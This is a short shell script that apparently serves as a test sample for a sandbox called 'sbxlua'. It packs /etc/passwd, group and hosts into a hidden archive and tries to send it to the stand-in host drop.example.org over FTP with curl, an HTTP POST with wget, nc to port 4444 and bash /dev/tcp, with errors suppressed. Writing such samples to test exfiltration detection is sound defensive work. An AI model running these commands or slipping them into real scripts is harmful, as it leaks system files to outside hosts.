#!/bin/sh
# SPDX-License-Identifier: MIT
# Sends the collected archive out over clear-text protocols other than
# its C2's: an FTP upload, an HTTP POST of the file, raw TCP.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
cd /tmp || exit 1
tar czf .out.tgz -C /etc passwd group hosts 2>/dev/null
curl -sm 2 -T .out.tgz ftp://anonymous:x@drop.example.org/incoming/ 2>/dev/null
wget -q -T 2 -t 1 --post-file=.out.tgz http://drop.example.org:8080/upload -O /dev/null 2>/dev/null
timeout 2 nc drop.example.org 4444 < .out.tgz 2>/dev/null
timeout 2 bash -c 'cat /tmp/.out.tgz > /dev/tcp/drop.example.org/4444' 2>/dev/null
exit 0
